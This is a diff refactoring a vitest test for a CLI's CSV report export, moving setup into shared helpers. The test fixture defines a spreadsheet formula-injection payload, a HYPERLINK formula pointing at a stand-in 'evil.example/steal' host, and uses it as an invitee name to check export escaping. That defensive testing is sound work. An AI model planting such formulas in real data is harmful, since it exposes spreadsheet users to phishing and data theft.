@@ -1,20 +1,16 @@
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
+import { readFileSync } from "node:fs";
 import { parse } from "csv-parse/sync";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { beforeAll, describe, expect, it } from "vitest";
 import type { Invitation } from "../../src/sandbox/index.js";
-import { startTestEnv, type TestEnv } from "../helpers/cli.js";
+import { useTempDir, useTestEnv } from "../helpers/cli.js";
 
 const EVIL = '=HYPERLINK("http://evil.example/steal?x=1","Click me")';
 
-let t: TestEnv;
-let dir: string;
+const t = useTestEnv();
+const tmp = useTempDir("assess-export-");
 let evilId: number;
 let plainId: number;
 beforeAll(async () => {
-  t = await startTestEnv();
-  dir = mkdtempSync(join(tmpdir(), "assess-export-"));
   const invite = async (email: string, name: string) => {
     const r = await t.run(["invite", "send", "--test", "1001", "--email", email, "--name", name, "--json"]);
     expect(r.code, r.stderr).toBe(0);
@@ -24,10 +20,6 @@ beforeAll(async () => {
   };
   evilId = await invite("mallory@example.com", EVIL);
   plainId = await invite("tomas@example.com", "Tomás Ñúñez, Jr.");
-});
-afterAll(async () => {
-  await t.close();
-  rmSync(dir, { recursive: true, force: true });
 });
 
 /** Ground truth from the sandbox's own store: the account's finished attempts completed in [from, to]. */
@@ -63,7 +55,7 @@ describe("reports export", () => {
   });
 
   it("--out file.csv writes a spreadsheet-ready file (BOM, CRLF, one flat row per attempt with section columns)", async () => {
-    const file = join(dir, "export.csv");
+    const file = tmp.file("export.csv");
     const r = await t.run(["reports", "export", ...PERIOD, "--test", "1001", "--out", file]);
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toBe("");
